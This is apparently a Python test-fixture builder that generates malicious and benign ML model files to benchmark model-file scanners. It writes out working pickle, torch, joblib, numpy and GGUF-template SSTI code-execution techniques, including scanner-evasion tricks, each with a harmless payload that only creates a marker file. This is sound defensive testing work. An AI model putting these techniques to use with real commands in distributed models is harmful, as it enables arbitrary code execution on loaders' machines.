"""A corpus of malicious and benign model files, built from scratch (no downloaded samples).

Every malicious sample carries a harmless but real payload: loading it would
create its own marker file under ``markers/``. Scanning must flag each one at
its expected severity and must never create a marker. Used by the tests and
by ``benchmarks/bench_scan.py`` (the same files through every scanner).
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import Counter, OrderedDict, defaultdict, deque
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

#: Kinds: "malicious" must be >= expected severity; "benign" must be <= info.
MALICIOUS = "malicious"
BENIGN = "benign"


@dataclass(frozen=True)
class Sample:
    name: str
    path: Path
    kind: str
    #: Minimum severity for malicious samples ("critical" or "high").
    expected: str
    technique: str
    #: The file the payload would create (malicious samples only).
    marker: Path | None = None
    #: How a test may prove the payload is live: "pickle" (pickle.load), "torch", "numpy", None.
    live: str | None = None


# -- opcode helpers ------------------------------------------------------------------------------
def u(text: str) -> bytes:
    """BINUNICODE."""
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call1(module: str, name: str, arg: bytes) -> bytes:
    """module.name(arg) with REDUCE (arg is opcode bytes pushing one value)."""
    return glob(module, name) + arg + b"\x85R"


def touch_cmd(marker: Path) -> str:
    return f"touch {marker}"


def open_marker(marker: Path, proto: int = 2) -> bytes:
    """builtins.open(marker, 'w'): creating the file is the payload."""
    return b"\x80" + bytes([proto]) + glob("builtins", "open") + u(str(marker)) + u("w") + b"\x86R."


def system_marker(marker: Path, proto: int) -> bytes:
    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, (touch_cmd(marker),))

    return pickle.dumps(Payload(), protocol=proto)


class Builder:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.markers = root / "markers"
        self.files = root / "files"
        self.markers.mkdir(parents=True, exist_ok=True)
        self.files.mkdir(parents=True, exist_ok=True)
        self.samples: list[Sample] = []

    def marker(self, name: str) -> Path:
        return self.markers / f"{name}.ran"

    def add(
        self,
        name: str,
        data: bytes,
        kind: str,
        expected: str,
        technique: str,
        marker: Path | None = None,
        live: str | None = None,
    ) -> Path:
        path = self.files / name
        path.write_bytes(data)
        self.samples.append(Sample(name, path, kind, expected, technique, marker, live))
        return path

    def evil(
        self,
        name: str,
        technique: str,
        make: Callable[[Path], bytes],
        expected: str = "critical",
        live: str | None = "pickle",
    ) -> Path:
        stem = name.replace(".", "_")
        marker = self.marker(stem)
        return self.add(name, make(marker), MALICIOUS, expected, technique, marker, live)


# -- malicious -----------------------------------------------------------------------------------
def _raw_pickles(b: Builder) -> None:
    for proto in range(6):
        b.evil(
            f"reduce_p{proto}.pkl",
            f"os.system REDUCE, protocol {proto}",
            lambda m, p=proto: system_marker(m, p),
        )
    b.evil("open_builtin.pkl", "builtins.open call", open_marker)
    b.evil(
        "exec_builtin.pkl",
        "builtins.exec of source text",
        lambda m: b"\x80\x02" + call1("builtins", "exec", u(f"open({str(m)!r}, 'w')")) + b".",
    )
    b.evil(
        "subprocess_call.pkl",
        "subprocess.call list",
        lambda m: (
            b"\x80\x02" + glob("subprocess", "call") + b"(" + u("touch") + u(str(m)) + b"l\x85R."
        ),
    )
    b.evil(
        "cprofile_run.pkl",
        "cProfile.run gadget (missing from modelscan's denylist)",
        lambda m: b"\x80\x02" + call1("cProfile", "run", u(f"open({str(m)!r}, 'w')")) + b".",
    )
    b.evil(
        "uuid_command.pkl",
        "uuid._get_command_stdout (CVE-2026-56315 family)",
        lambda m: (
            b"\x80\x02" + glob("uuid", "_get_command_stdout") + u("touch") + u(str(m)) + b"\x86R."
        ),
    )
    b.evil(
        "unlisted_tkinter.pkl",
        "a global on no denylist (tkinter.Tcl)",
        lambda m: b"\x80\x02" + glob("tkinter", "Tcl") + b")R.",
        expected="high",
        live=None,
    )
    # dotted names: protocol 4 find_class walks pathlib -> os -> system
    b.evil(
        "dotted_pathlib.pkl",
        "STACK_GLOBAL ('pathlib', 'os.system') dotted attribute walk",
        lambda m: (
            b"\x80\x04" + u("pathlib") + u("os.system") + b"\x93" + u(touch_cmd(m)) + b"\x85R."
        ),
    )
    # Python-2 aliases (protocol < 3 fix_imports)
    b.evil(
        "py2_commands.pkl",
        "protocol 2 GLOBAL commands.getoutput -> subprocess.getoutput",
        lambda m: b"\x80\x02" + call1("commands", "getoutput", u(touch_cmd(m))) + b".",
    )
    b.evil(
        "py2_builtin_eval.pkl",
        "protocol 0 GLOBAL __builtin__.eval",
        lambda m: (
            glob("__builtin__", "eval") + b"(V" + f"open({str(m)!r}, 'w')".encode() + b"\ntR."
        ),
    )
    b.evil(
        "py2_cpickle_nested.pkl",
        "cPickle.loads of an embedded pickle (alias + nesting)",
        lambda m: b"\x80\x02" + glob("cPickle", "loads") + _binbytes(open_marker(m)) + b"\x85R.",
    )
    b.evil(
        "nested_pickle_loads.pkl",
        "pickle.loads(BINBYTES) nested payload",
        lambda m: b"\x80\x03" + glob("pickle", "loads") + _binbytes(open_marker(m)) + b"\x85R.",
    )
    # memo tricks
    b.evil(
        "memo_strings.pkl",
        "STACK_GLOBAL operands fetched from the memo",
        lambda m: (
            b"\x80\x04"
            + u("posix")
            + b"q\x00"
            + u("system")
            + b"q\x01"
            + b"00"
            + b"h\x00h\x01\x93"
            + u(touch_cmd(m))
            + b"\x85R."
        ),
    )
    b.evil(
        "memo_callable.pkl",
        "callable memoised, popped, fetched back",
        lambda m: (
            b"\x80\x02" + glob("posix", "system") + b"q\x050h\x05" + u(touch_cmd(m)) + b"\x85R."
        ),
    )
    b.evil(
        "invalid_memo_after.pkl",
        "payload, then a reference to a memo slot that never existed",
        lambda m: b"\x80\x02" + call1("posix", "system", u(touch_cmd(m))) + b"h\x63.",
    )
    b.evil(
        "computed_global.pkl",
        "STACK_GLOBAL module computed by _codecs.decode('bf','rot13')",
        lambda m: (
            b"\x80\x04"
            + glob("_codecs", "decode")
            + u("bf")
            + u("rot13")
            + b"\x86R"
            + u("system")
            + b"\x93"
            + u(touch_cmd(m))
            + b"\x85R."
        ),
    )
    b.evil(
        "inst_p0.pkl",
        "protocol 0 INST (class named inline)",
        lambda m: b"(S'" + touch_cmd(m).encode() + b"'\nios\nsystem\n.",
    )
    b.evil(
        "obj_p1.pkl",
        "protocol 1 OBJ",
        lambda m: b"(" + glob("os", "system") + b"S'" + touch_cmd(m).encode() + b"'\no.",
    )
    b.evil(
        "broken_after_payload.pkl",
        "payload, then an invalid opcode (nullifAI style)",
        lambda m: b"\x80\x02" + call1("posix", "system", u(touch_cmd(m))) + b"\xff\xfe",
    )
    b.evil(
        "truncated_after_payload.pkl",
        "payload, then the data simply ends",
        lambda m: b"\x80\x02" + call1("posix", "system", u(touch_cmd(m))) + b"]q\x00(K",
    )
    b.evil(
        "ext_registry.pkl",
        "copyreg.add_extension then EXT1 resolves to os.system",
        lambda m: (
            b"\x80\x02"
            + glob("copyreg", "add_extension")
            + u("posix")
            + u("system")
            + b"K\xf0\x87R0\x82\xf0"
            + u(touch_cmd(m))
            + b"\x85R."
        ),
    )
    b.evil(
        "getattr_chain.pkl",
        "getattr(builtins, 'eval') called through its result",
        lambda m: (
            b"\x80\x02"
            + glob("builtins", "getattr")
            + glob("builtins", "__import__")
            + u("builtins")
            + b"\x85R"
            + u("eval")
            + b"\x86R"
            + u(f"open({str(m)!r}, 'w')")
            + b"\x85R."
        ),
    )
    b.evil(
        "build_injection.pkl",
        "BUILD sets attributes on an imported class",
        lambda m: (
            b"\x80\x02"
            + glob("collections", "OrderedDict")
            + b"N}"
            + u("__init__")
            + glob("posix", "system")
            + b"s\x86b."
        ),
        live=None,
    )
    b.evil(
        "frame_differential.pkl",
        "FRAME-boundary differential (CPython gh-154848)",
        _frame_differential,
    )
    b.evil(
        "stacked_second.pkl",
        "benign pickle followed by a malicious one",
        lambda m: pickle.dumps({"ok": 1}, protocol=2) + open_marker(m),
        live=None,
    )
    b.evil(
        "newobj_popen.pkl",
        "NEWOBJ of subprocess.Popen",
        lambda m: (
            b"\x80\x02"
            + glob("subprocess", "Popen")
            + b"("
            + u("touch")
            + u(str(m))
            + b"l\x85\x81."
        ),
        live=None,
    )
    b.evil(
        "exec_p5_framed.pkl",
        "protocol 5 framed payload",
        lambda m: pickle.dumps(_Reduce(exec, (f"open({str(m)!r}, 'w')",)), protocol=5),
    )
    b.evil(
        "torch_load_gadget.pkl",
        "torch.load of another file (loader gadget)",
        lambda m: b"\x80\x02" + call1("torch", "load", u(str(m))) + b".",
        live=None,
    )
    b.evil(
        "inductor_gadget.pkl",
        "torch._inductor codecache gadget",
        lambda m: (
            b"\x80\x02" + call1("torch._inductor.codecache", "compile_file", u(str(m))) + b"."
        ),
        live=None,
    )


def _binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


class _Reduce:
    def __init__(self, func: object, args: tuple[object, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, ...]:
        return (self.func, self.args)


def _frame_differential(marker: Path, hidden: bytes | None = None) -> bytes:
    """Harmless to pickletools and pickle.loads; a file-reading Unpickler runs the payload."""
    if hidden is None:
        hidden = glob("builtins", "open") + b"V" + str(marker).encode() + b"\nVw\n\x86R"
    body = b"\x80\x05N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n0("
    body += b"\x95" + struct.pack("<Q", 2)
    body += b"B\x07\x01\x00\x00" + b"\x00\x00" + (hidden + b"(").ljust(256 + 5, b"N") + b"1."
    return body


def frame_differential_probe() -> bytes:
    """The same shape with a harmless hidden call (repr), to test an interpreter for the bug."""
    return _frame_differential(Path(), glob("builtins", "repr") + b"VRAN\n\x85R")


def _compressed(b: Builder) -> None:
    b.evil(
        "payload.pkl.gz",
        "gzip-wrapped pickle (pandas reads .pkl.gz)",
        lambda m: gzip.compress(open_marker(m)),
        live="gzip",
    )
    b.evil(
        "payload.pkl.bz2", "bzip2-wrapped pickle", lambda m: bz2.compress(open_marker(m)), live=None
    )
    b.evil(
        "payload.pkl.xz", "xz-wrapped pickle", lambda m: lzma.compress(open_marker(m)), live=None
    )
    b.evil(
        "zlib_model.joblib",
        "joblib zlib compression",
        lambda m: zlib.compress(open_marker(m)),
        live=None,
    )
    b.evil(
        "lzma_model.joblib",
        "joblib lzma (alone) compression",
        lambda m: lzma.compress(open_marker(m), format=lzma.FORMAT_ALONE),
        live=None,
    )
    b.evil(
        "joblib_interleave.joblib",
        "payload placed after a joblib inline array",
        lambda m: _joblib_stream(call1("posix", "system", u(touch_cmd(m))) + b"\x86"),
        live=None,
    )
    b.evil(
        "joblib_array_is_opcodes.pkl",
        "joblib array bytes that pickle.load runs as opcodes (where joblib is installed)",
        _joblib_opcodes_as_array,
        live=None,
    )
    b.evil(
        "joblib_object_array.joblib",
        "payload in a joblib object array's nested pickle",
        lambda m: _joblib_stream(b"", object_payload=open_marker(m)),
        live=None,
    )


def _joblib_opcodes_as_array(marker: Path) -> bytes:
    """joblib.load skips these 'array' bytes as float data; pickle.load runs them as opcodes."""
    payload = call1("posix", "system", u(touch_cmd(marker))) + b"."
    payload = payload.ljust((len(payload) + 7) // 8 * 8, b".")
    count = len(payload) // 8
    dtype = (
        glob("numpy", "dtype")
        + u("f8")
        + b"\x89\x88\x87R"
        + b"(K\x03"
        + u("<")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )
    state = (
        b"}("
        + u("subclass")
        + glob("numpy", "ndarray")
        + u("shape")
        + b"K"
        + bytes([count])
        + b"\x85"
        + u("order")
        + u("C")
        + u("dtype")
        + dtype
        + u("allow_mmap")
        + b"\x89u"
    )
    head = b"\x80\x02" + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    return head + payload + b"."


def _joblib_stream(after: bytes, object_payload: bytes | None = None) -> bytes:
    """A joblib-format pickle: NumpyArrayWrapper, BUILD, raw array bytes inline, then ``after``."""
    typestr = "O8" if object_payload is not None else "<f8"
    dtype = (
        glob("numpy", "dtype")
        + u(typestr[-2:])
        + b"\x89\x88\x87R"
        + b"(K\x03"
        + u("|" if object_payload is not None else "<")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb"
    )
    state = (
        b"}("
        + u("subclass")
        + glob("numpy", "ndarray")
        + u("shape")
        + b"K\x04\x85"
        + u("order")
        + u("C")
        + u("dtype")
        + dtype
        + u("allow_mmap")
        + b"\x88"
        + u("numpy_array_alignment_bytes")
        + b"K\x10u"
    )
    head = b"\x80\x02" + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    if object_payload is not None:
        return head + object_payload + b"."
    data = struct.pack("<4d", 1.0, 2.0, 3.0, 4.0)
    return head + b"\x05" + b"\x00" * 5 + data + after + b"."


def _torch(b: Builder) -> None:
    import torch

    class Evil:
        def __init__(self, marker: Path) -> None:
            self.marker = marker

        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, (touch_cmd(self.marker),))

    def torch_bytes(obj: object, **kwargs: object) -> bytes:
        buffer = io.BytesIO()
        torch.save(obj, buffer, **kwargs)
        return buffer.getvalue()

    b.evil(
        "torch_zip_evil.pt",
        "torch zip with a payload in data.pkl",
        lambda m: torch_bytes({"w": torch.ones(2), "x": Evil(m)}),
        live="torch",
    )
    b.evil(
        "torch_zip_name_mismatch.pt",
        "local header name differs from the central directory (CVE-2025-1944)",
        lambda m: _rename_local(torch_bytes({"x": Evil(m)})),
        live=None,
    )
    b.evil(
        "torch_zip_bad_crc.pt",
        "data.pkl CRC-32 wrong (CVE-2025-10156)",
        lambda m: _break_crc(torch_bytes({"x": Evil(m)})),
        live="torch",
    )
    b.evil(
        "torch_zip_extra_member.pt",
        "an extra pickle member nothing lists",
        lambda m: _add_member(
            torch_bytes({"w": torch.ones(2)}), "archive/extra.pkl", open_marker(m)
        ),
        live=None,
    )
    b.evil(
        "torch_zip_prefixed.pt",
        "junk before the archive (polyglot prefix)",
        lambda m: b"#!/bin/sh\n" * 10 + torch_bytes({"x": Evil(m)}),
        live=None,
    )
    # torch.load hands *.safetensors to the safetensors library, but torch.load(f) on an open
    # file object, or a renamed copy, runs it
    b.evil(
        "torch_as_safetensors.safetensors",
        "torch checkpoint renamed .safetensors",
        lambda m: torch_bytes({"x": Evil(m)}),
        live=None,
    )
    b.evil(
        "pickle_as_bin.bin",
        "raw pickle renamed .bin (CVE-2025-10155)",
        lambda m: system_marker(m, 2),
        live="torch",
    )
    b.evil(
        "pickle_no_extension",
        "pickle without an extension (CVE-2025-1889)",
        lambda m: system_marker(m, 2),
    )
    b.evil("pickle_as_npy.npy", "pickle renamed .npy", lambda m: system_marker(m, 4))
    b.evil(
        "pickle_as_json.json",
        "protocol-0 pickle renamed .json",
        lambda m: b"cos\nsystem\n(S'" + touch_cmd(m).encode() + b"'\ntR.",
    )
    for role in ("magic", "sys_info", "keys"):
        b.evil(
            f"legacy_{role}.pt",
            f"legacy checkpoint, payload in the {role} pickle",
            lambda m, r=role: _legacy_with_payload(
                torch_bytes({"w": torch.ones(3)}, _use_new_zipfile_serialization=False), r, m
            ),
            live="torch",
        )
    b.evil(
        "legacy_main.pt",
        "legacy checkpoint, payload in the main pickle",
        lambda m: torch_bytes({"x": Evil(m)}, _use_new_zipfile_serialization=False),
        live="torch",
    )
    b.evil(
        "torch_tar_storages.tar",
        "old torch tar format, payload in 'storages'",
        _torch_tar,
        live=None,
    )
    b.evil(
        "torch_in_gzip.pt.gz",
        "torch zip inside gzip",
        lambda m: gzip.compress(torch_bytes({"x": Evil(m)})),
        live=None,
    )
    b.evil(
        "torch_in_zip.zip",
        "torch zip stored inside another zip",
        lambda m: _zip_of({"model/pytorch_model.bin": torch_bytes({"x": Evil(m)})}),
        live=None,
    )
    try:
        import py7zr  # noqa: F401
    except ImportError:
        pass
    else:
        b.evil(
            "nullifai.7z",
            "torch checkpoint repacked with 7z, pickle broken after the payload (nullifAI)",
            _nullifai_7z,
            live=None,
        )


def _rename_local(data: bytes) -> bytes:
    index = data.find(b"data.pkl")  # the first occurrence is the local header's name
    return data[:index] + b"data.pk1" + data[index + 8 :]


def _break_crc(data: bytes) -> bytes:
    central = data.find(b"PK\x01\x02")
    crc_at = central + 16
    crc = struct.unpack("<I", data[crc_at : crc_at + 4])[0] ^ 0xDEADBEEF
    return data[:crc_at] + struct.pack("<I", crc) + data[crc_at + 4 :]


def _add_member(data: bytes, name: str, payload: bytes) -> bytes:
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(name, payload)
    return buffer.getvalue()


def _zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, payload in members.items():
            archive.writestr(name, payload)
    return buffer.getvalue()


def _legacy_with_payload(data: bytes, role: str, marker: Path) -> bytes:
    from supplychain.picklevm import parse

    bounds = []
    offset = 0
    for _ in range(5):
        result = parse(data[offset:])
        bounds.append((offset, offset + result.end))
        offset += result.end
    index = {"magic": 0, "sys_info": 2, "keys": 4}[role]
    start, end = bounds[index]
    original = data[start:end]
    # run the payload, drop its result, then let the original pickle build the expected value
    evil = b"\x80\x02" + call1("posix", "system", u(touch_cmd(marker))) + b"0" + original[2:]
    return data[:start] + evil + data[end:]


def _torch_tar(marker: Path) -> bytes:
    def member(archive: tarfile.TarFile, name: str, payload: bytes) -> None:
        info = tarfile.TarInfo(name)
        info.size = len(payload)
        archive.addfile(info, io.BytesIO(payload))

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        member(archive, "sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2))
        member(
            archive,
            "storages",
            b"\x80\x02"
            + call1("posix", "system", u(touch_cmd(marker)))
            + b"0K\x00."
            + pickle.dumps([], protocol=2),
        )
        member(archive, "tensors", pickle.dumps(0, protocol=2))
        member(archive, "pickle", pickle.dumps({}, protocol=2))
    return buffer.getvalue()


def _nullifai_7z(marker: Path) -> bytes:
    import py7zr

    broken = b"\x80\x02" + call1("posix", "system", u(touch_cmd(marker))) + b"\xff"
    inner = _zip_of({"archive/data.pkl": broken, "archive/version": b"3\n"})
    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as archive:
        archive.writestr(inner, "pytorch_model.bin")
    return buffer.getvalue()


def _templates(b: Builder) -> None:
    b.evil(
        "ssti.gguf",
        "GGUF chat template reaching os.popen (CVE-2024-34359 style)",
        lambda m: gguf_bytes(ssti_template(m)),
        expected="high",
        live=None,
    )
    b.evil(
        "tokenizer_config.json",
        "tokenizer_config.json chat template SSTI",
        lambda m: json.dumps({"chat_template": ssti_template(m)}).encode(),
        expected="high",
        live=None,
    )
    b.add(
        "benign.gguf",
        gguf_bytes(BENIGN_TEMPLATE),
        BENIGN,
        "info",
        "GGUF with an ordinary chat template",
    )
    b.add(
        "benign_tokenizer_config.json",
        json.dumps({"chat_template": BENIGN_TEMPLATE, "eos_token": "</s>"}).encode(),
        BENIGN,
        "info",
        "tokenizer_config.json with an ordinary chat template",
    )


def _numpy(b: Builder) -> None:
    import numpy as np

    def npy(obj: object, **kwargs: object) -> bytes:
        buffer = io.BytesIO()
        np.save(buffer, obj, **kwargs)
        return buffer.getvalue()

    def evil_array(m: Path) -> object:
        return np.array([_Reduce(os.system, (touch_cmd(m),)), 1], dtype=object)

    b.evil(
        "object_array.npy",
        "numpy object array carrying a payload",
        lambda m: npy(evil_array(m), allow_pickle=True),
        live="numpy",
    )
    b.evil(
        "object_array.bin",
        "numpy object array with a misleading extension",
        lambda m: npy(evil_array(m), allow_pickle=True),
        live="numpy",
    )

    def npz(m: Path) -> bytes:
        buffer = io.BytesIO()
        np.savez(buffer, ok=np.arange(3), bad=evil_array(m))
        return buffer.getvalue()

    b.evil("object_array.npz", "object array inside an .npz", npz, live=None)
    b.evil(
        "lambda_layer.keras",
        "Keras archive with a Lambda layer",
        keras_lambda,
        expected="high",
        live=None,
    )


# -- benign --------------------------------------------------------------------------------------
def _benign(b: Builder) -> None:
    import numpy as np
    import torch

    def torch_bytes(obj: object, **kwargs: object) -> bytes:
        buffer = io.BytesIO()
        torch.save(obj, buffer, **kwargs)
        return buffer.getvalue()

    dtypes = [
        torch.float32,
        torch.float64,
        torch.float16,
        torch.bfloat16,
        torch.int8,
        torch.int16,
        torch.int32,
        torch.int64,
        torch.uint8,
        torch.bool,
        torch.complex64,
        torch.complex128,
        torch.float8_e4m3fn,
        torch.float8_e5m2,
        torch.uint16,
        torch.uint32,
        torch.uint64,
    ]
    state = {f"t_{str(d).split('.')[-1]}": torch.zeros(3, 2, dtype=d) for d in dtypes}
    base = torch.arange(24, dtype=torch.float32)
    state.update(
        {
            "shared_a": base,
            "shared_b": base,
            "view_rows": base.view(4, 6)[1:3],
            "transposed": base.view(4, 6).t(),
            "strided": base[::2],
            "scalar": torch.tensor(3.5),
            "empty": torch.zeros(0, 5),
            "param": torch.nn.Parameter(torch.ones(2, 2)),
        }
    )
    b.add(
        "state_dict_all_dtypes.pt",
        torch_bytes(state),
        BENIGN,
        "info",
        "torch zip state_dict, every dtype, shared and non-contiguous tensors",
    )
    classic = {
        k: v
        for k, v in state.items()
        if v.dtype
        not in (torch.float8_e4m3fn, torch.float8_e5m2, torch.uint16, torch.uint32, torch.uint64)
    }
    b.add(
        "legacy_state_dict.pt",
        torch_bytes(classic, _use_new_zipfile_serialization=False),
        BENIGN,
        "info",
        "legacy torch format",
    )
    b.add(
        "state_dict_p4.pt",
        torch_bytes(classic, pickle_protocol=4),
        BENIGN,
        "info",
        "torch zip saved with pickle protocol 4 (FRAME, STACK_GLOBAL, MEMOIZE)",
    )
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 1))
    optimizer = torch.optim.Adam(model.parameters())
    model(torch.randn(2, 4)).sum().backward()
    optimizer.step()
    b.add(
        "optimizer.pt",
        torch_bytes(
            {
                "model": model.state_dict(),
                "optimizer": optimizer.state_dict(),
                "epoch": 3,
                "rng": torch.get_rng_state(),
            }
        ),
        BENIGN,
        "info",
        "training checkpoint: model + Adam optimizer state",
    )
    b.add(
        "model.safetensors",
        _safetensors({"w": np.ones((2, 3), np.float32)}),
        BENIGN,
        "info",
        "safetensors weights",
    )
    for name, array in (
        ("ints.npy", np.arange(10)),
        ("floats.npy", np.ones((3, 3))),
        ("fortran.npy", np.asfortranarray(np.ones((3, 2)))),
        ("strings.npy", np.array(["a", "bc"])),
    ):
        buffer = io.BytesIO()
        np.save(buffer, array)
        b.add(name, buffer.getvalue(), BENIGN, "info", "numpy array")
    buffer = io.BytesIO()
    np.savez_compressed(buffer, a=np.arange(4), b=np.ones(2))
    b.add("arrays.npz", buffer.getvalue(), BENIGN, "info", "compressed npz")
    data = {
        "ints": [1, -2, 2**70],
        "floats": [1.5, float("inf")],
        "text": "héllo",
        "bytes": b"\x00\x01",
        "set": {1, 2},
        "frozen": frozenset({3}),
        "bytearray": bytearray(b"xy"),
        "complex": 1 + 2j,
        "none": None,
        "nested": OrderedDict(a=Counter("abca"), b=deque([1, 2])),
        "default": defaultdict(list, {"k": [1]}),
        "tuple": (1, (2, 3)),
    }
    for proto in range(6):
        b.add(
            f"plain_p{proto}.pkl",
            pickle.dumps(data, protocol=proto),
            BENIGN,
            "info",
            f"plain data pickle, protocol {proto}",
        )
    b.add(
        "numpy_arrays_p2.pkl",
        pickle.dumps({"a": np.arange(5.0), "s": np.float32(2)}, protocol=2),
        BENIGN,
        "info",
        "pickled numpy arrays",
    )
    b.add(
        "numpy_arrays_p5.pkl",
        pickle.dumps({"a": np.arange(5.0)}, protocol=5),
        BENIGN,
        "info",
        "pickled numpy arrays, protocol 5",
    )
    b.add(
        "benign.joblib",
        _joblib_stream(b""),
        BENIGN,
        "info",
        "joblib-format pickle with an inline array",
    )
    b.add(
        "benign.pkl.gz",
        gzip.compress(pickle.dumps(data, protocol=4)),
        BENIGN,
        "info",
        "gzip-wrapped data pickle",
    )
    b.add("config.json", b'{"hidden_size": 16}', BENIGN, "info", "JSON config")
    b.add("dense.keras", keras_lambda(None), BENIGN, "info", "Keras v3 archive without Lambda")
    b.add("README.md", b"# A model\n\nconfig: see config.json\n", BENIGN, "info", "model card")


def _safetensors(tensors: dict[str, object]) -> bytes:
    import tempfile

    from safetensors.numpy import save_file

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "w.safetensors"
        save_file(tensors, str(path))  # type: ignore[arg-type]
        return path.read_bytes()


def build(root: Path, *, torch_samples: bool = True) -> list[Sample]:
    """Write the corpus under ``root`` (``files/`` and an empty ``markers/``)."""
    builder = Builder(root)
    _raw_pickles(builder)
    _compressed(builder)
    _numpy(builder)
    _templates(builder)
    if torch_samples:
        _torch(builder)
        _benign(builder)
    return builder.samples


def keras_lambda(marker: Path | None) -> bytes:
    """A .keras archive whose config holds a Lambda layer (or, with no marker, a Dense layer)."""
    layer = (
        {"class_name": "Dense", "config": {"units": 1}}
        if marker is None
        else {
            "class_name": "Lambda",
            "config": {
                "function": {
                    "class_name": "__lambda__",
                    "config": {"code": "4wEAAAAAAAAA", "defaults": None},
                }
            },
        }
    )
    config = {
        "class_name": "Sequential",
        "config": {
            "layers": [{"class_name": "InputLayer", "config": {"batch_shape": [None, 2]}}, layer]
        },
    }
    return _zip_of(
        {
            "metadata.json": b"{}",
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 64,
        }
    )


BENIGN_TEMPLATE = (
    "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}"
    "{% if message['role'] == 'system' %}{{ '\\n' }}{% endif %}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}"
)


def ssti_template(marker: Path) -> str:
    return (
        "{{ cycler.__init__.__globals__.os.popen('touch "
        + str(marker)
        + "').read() }}"
        + BENIGN_TEMPLATE
    )


def gguf_bytes(template: str) -> bytes:
    """A minimal GGUF v3 file: metadata with an architecture and a chat template, no tensors."""

    def string(text: str) -> bytes:
        data = text.encode()
        return struct.pack("<Q", len(data)) + data

    entries = [
        ("general.architecture", 8, string("llama")),
        ("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 2) + string("a") + string("b")),
        ("tokenizer.chat_template", 8, string(template)),
    ]
    body = b"".join(string(k) + struct.pack("<I", t) + v for k, t, v in entries)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(entries)) + body
